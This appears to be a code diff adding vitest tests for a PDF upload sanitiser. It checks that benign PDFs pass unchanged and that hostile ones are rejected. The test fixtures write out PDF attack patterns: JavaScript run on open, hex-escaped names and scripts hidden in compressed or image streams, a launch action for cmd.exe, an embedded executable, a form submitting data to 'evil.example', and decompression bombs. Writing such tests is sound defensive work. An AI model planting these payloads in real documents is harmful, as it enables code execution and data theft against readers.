@@ -2,13 +2,15 @@ import { imageSizeOf } from '#platform/server/uploads/image-size.ts'
 import { pictureError, sanitisePicture } from '#platform/server/uploads/images.ts'
 import { describe, expect, test } from 'vitest'
 import type { FileExtension } from '#platform/contract/uploads.ts'
-import { sanitiseContent } from '#platform/server/uploads/content.ts'
+import { contentError, sanitiseContent } from '#platform/server/uploads/content.ts'
 import { hostileDrawings } from '#platform/server/uploads/testing/hostile-svgs.ts'
 import {
   aHeic,
   aJpeg,
   aPng,
   aSvg,
+  pdfOf,
+  pdfStream,
   pngOf,
   pngWith,
   rowsXml,
@@ -164,6 +166,70 @@ const wrong: [string, Buffer, FileExtension][] = [
 describe('content that does not match its extension', () => {
   test.each(wrong)('is rejected: %s', async (_, bytes, extension) => {
     expect(await sanitiseContent(bytes, extension)).toBeNull()
+  })
+})
+
+const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
+const objectStream = '/Type /ObjStm /N 1 /First 4'
+const page = 'BT /F1 12 Tf (Hello) Tj ET '
+
+describe('PDF', () => {
+  test.each<[string, Buffer]>([
+    ['a page', pdfOf()],
+    ['compressed content and a picture', pdfOf([pdfStream(page), pdfStream(aJpeg(), '/Filter /DCTDecode')])],
+    [
+      'objects in a compressed stream',
+      pdfOf([pdfStream('4 0 << /Type /Font >>', `${objectStream} /Filter /FlateDecode`)]),
+    ],
+    ['a link to a web page', pdfOf(['<< /Type /Annot /A << /S /URI /URI (https://example.com) >> >>'])],
+    ['content in an old encoding', pdfOf([pdfStream('87cURD]i,~>', '/Filter /ASCII85Decode')])],
+    ['a form without an action', pdfOf(['<< /AcroForm << /Fields [] >> >>'])],
+  ])('is unchanged with %s', async (_, bytes) => {
+    expect(await sanitiseContent(bytes, 'pdf')).toEqual(bytes)
+  })
+
+  test.each<[string, Buffer, string]>([
+    ['a script that runs when it opens', pdfOf([`<< /OpenAction ${script} >>`]), 'PDF_ACTIVE'],
+    ['a script whose name is escaped', pdfOf(['<< /S /J#61va#53cript /JS (x) >>']), 'PDF_ACTIVE'],
+    [
+      'a script in a compressed stream',
+      pdfOf([pdfStream(`4 0 ${script}`, `${objectStream} /Filter /FlateDecode`)]),
+      'PDF_ACTIVE',
+    ],
+    ['a script behind much else in a stream', pdfOf([pdfStream(page.repeat(40_000) + script)]), 'PDF_ACTIVE'],
+    [
+      'a script in what looks like a picture',
+      pdfOf([pdfStream(script, '/Subtype /Image /Filter /DCTDecode')]),
+      'PDF_ACTIVE',
+    ],
+    ['a script in a stream within a stream', pdfOf([`<< >>\nstream\n${pdfStream(script)}`]), 'PDF_ACTIVE'],
+    ['a program that it starts', pdfOf(['<< /S /Launch /F (cmd.exe) >>']), 'PDF_ACTIVE'],
+    [
+      'another file inside',
+      pdfOf([pdfStream('MZ', '/Type /EmbeddedFile /Filter /FlateDecode')]),
+      'PDF_ACTIVE',
+    ],
+    ['a form that sends data', pdfOf(['<< /S /SubmitForm /F (https://evil.example) >>']), 'PDF_ACTIVE'],
+    ['an XFA form', pdfOf(['<< /AcroForm << /XFA [] >> >>']), 'PDF_ACTIVE'],
+    ['a password', pdfOf(['<< /Filter /Standard /V 4 >>'], '/Encrypt 4 0 R '), 'PDF_PROTECTED'],
+    [
+      'objects in an encoding that is not searched',
+      pdfOf([pdfStream('aa', `${objectStream} /Filter /ASCIIHexDecode`)]),
+      'PDF_UNREADABLE',
+    ],
+    [
+      'objects in two encodings',
+      pdfOf([pdfStream('aa', `${objectStream} /Filter [/FlateDecode /ASCIIHexDecode]`)]),
+      'PDF_UNREADABLE',
+    ],
+    ['a compressed stream of gigabytes', pdfOf([pdfStream(Buffer.alloc(210_000_000))]), 'PDF_UNREADABLE'],
+    ['streams without end', pdfOf(['stream\n'.repeat(100_000)]), 'PDF_UNREADABLE'],
+    ['its second half missing', pdfOf([pdfStream(page)]).subarray(0, -60), 'PDF_UNREADABLE'],
+    ['a page before it', Buffer.concat([html, pdfOf()]), 'FILE_TYPE'],
+    ['the content of a picture', aPng, 'FILE_TYPE'],
+  ])('is rejected with %s, and says what to do', async (_, bytes, code) => {
+    expect(await sanitiseContent(bytes, 'pdf')).toBeNull()
+    expect((await contentError(bytes, 'pdf')).code).toBe(`fields.${code}`)
   })
 })
 
